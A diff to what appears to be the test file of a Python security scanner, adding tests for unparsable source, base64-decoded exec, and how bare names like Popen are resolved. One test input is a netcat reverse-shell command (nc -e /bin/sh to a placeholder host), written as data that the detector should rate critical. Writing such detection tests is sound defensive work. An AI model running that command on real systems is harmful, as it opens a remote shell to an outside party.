@@ -371,6 +371,21 @@ def test_multi_line_sink_is_reported_where_the_data_is() -> None:
     assert lines == {2, 3}
 
 
+def test_python2_source_is_refused_and_still_read_line_by_line() -> None:
+    """Source that does not parse is high, and its statements are still judged per line."""
+    got = found("import base64\nexec base64.b64decode('aWQ=')\nprint 'x'\nlen([])\n")
+    assert ("unparsable", "high") in {(r, s) for r, s, _, _ in got}
+    assert {line for r, s, _, line in got if (r, s) == ("dynamic-code", "critical")} == {2}
+    assert not [f for f in got if f[3] == 4]  # an ordinary line stays quiet
+
+
+def test_bare_names_mean_what_they_usually_mean_unless_bound() -> None:
+    """Popen(...) with no import is subprocess; a local function named system is not."""
+    assert worst("Popen(['nc', '-e', '/bin/sh', 'h', '1'])\n", "reverse-shell") == "critical"
+    local = "def system(x):\n    return x\nsystem('ls')\n"
+    assert worst(local, "subprocess") is None
+
+
 def test_every_rule_has_a_case() -> None:
     """The table covers every rule the source walk can emit."""
     import inspect
